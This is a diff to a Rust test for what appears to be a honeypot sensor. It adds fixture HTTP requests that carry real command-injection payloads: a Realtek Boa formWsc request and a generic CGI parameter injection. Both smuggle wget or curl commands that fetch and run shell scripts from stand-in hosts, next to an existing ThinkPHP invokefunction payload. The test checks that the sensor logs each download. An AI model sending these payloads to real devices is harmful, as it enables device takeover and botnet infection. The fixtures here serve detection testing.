@@ -57,6 +57,13 @@ const EXPLOITS: &[(&str, &str, &str)] = &[
         "http://203.0.113.5:8080/x.sh",
     ),
     (
+        "realtek-boa-formwsc",
+        "POST /boafrm/formWsc HTTP/1.1\r\nHost: 198.51.100.7\r\nContent-Type: application/x-www-form-urlencoded\r\n\
+         Content-Length: BODYLEN\r\n\r\n\
+         submit-url=%2Fwlwps.htm&resetUnCfg=0&peerPin=12345678%3Bcd+%2Ftmp%3B+wget+http%3A%2F%2F203.0.113.5%3A8080%2Fwsc.sh%3B+sh+wsc.sh%3B&setPIN=Start+PIN&configVxd=off&resetRptUnCfg=0&peerRptPin=",
+        "http://203.0.113.5:8080/wsc.sh",
+    ),
+    (
         "thinkphp-invokefunction",
         "GET /index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget%20http://203.0.113.5:8080/tp.sh%20-O%20/tmp/x.sh;sh%20/tmp/x.sh HTTP/1.1\r\n\
          Host: 198.51.100.7\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
@@ -70,6 +77,11 @@ const EXPLOITS: &[(&str, &str, &str)] = &[
         "http://198.51.100.20/bins/hw.mips",
     ),
 ];
+
+/// A command in a parameter of a path no signature knows: the generic rule finds it.
+const GENERIC: &str = "POST /cgi-bin/unknown.cgi HTTP/1.1\r\nHost: x\r\n\
+    Content-Type: application/x-www-form-urlencoded\r\nContent-Length: BODYLEN\r\n\r\n\
+    lang=en&ntp=pool.ntp.org%26%26curl+-o+%2Ftmp%2Fg+http%3A%2F%2F198.51.100.30%2Fgeneric.sh%26%26sh+%2Ftmp%2Fg";
 
 /// The request with its Content-Length filled in where it says BODYLEN.
 fn framed(req: &str) -> Vec<u8> {
@@ -180,6 +192,7 @@ fn real_clients_and_exploits_on_both_transports() {
             for (name, req, _) in EXPLOITS {
                 answers.push((addr, *name, exchange(addr, &framed(req))));
             }
+            answers.push((addr, "generic", exchange(addr, &framed(GENERIC))));
         }
         answers
     })
@@ -188,8 +201,9 @@ fn real_clients_and_exploits_on_both_transports() {
     for (addr, name, answer) in &answers {
         assert!(answer.starts_with("HTTP/1.1 "), "{addr} {name}: {answer}");
     }
-    // 2 transports × (3 curl + 1 bad + 1 slow + 2 pipelined + the exploits), the router.
-    let n = 2 * (3 + 1 + 1 + 2 + EXPLOITS.len()) + 1;
+    // 2 transports × (3 curl + 1 bad + 1 slow + 2 pipelined + the exploits + the generic
+    // one), the router.
+    let n = 2 * (3 + 1 + 1 + 2 + EXPLOITS.len() + 1) + 1;
     let evs = http_events(&logs, n);
     let report = sensor.terminate();
     assert!(report.contains("http:"), "{report}");
@@ -208,6 +222,16 @@ fn real_clients_and_exploits_on_both_transports() {
         assert_eq!(dl.len(), 2, "{name}: {url} once per transport");
         assert!(dl.iter().all(|e| e["protocol"] == "http"));
     }
+    let generic: Vec<_> = evs
+        .iter()
+        .filter(|e| {
+            e["eventid"] == "cowrie.session.file_download"
+                && e["url"] == "http://198.51.100.30/generic.sh"
+        })
+        .collect();
+    assert_eq!(generic.len(), 2, "the generic rule, once per transport");
+    assert_eq!(generic[0]["method"], "curl");
+    assert_eq!(generic[0]["destfile"], "/tmp/g");
     let errors: Vec<&str> = http.iter().filter_map(|e| e["error"].as_str()).collect();
     assert!(
         errors.iter().filter(|e| e.contains("malformed")).count() == 2,
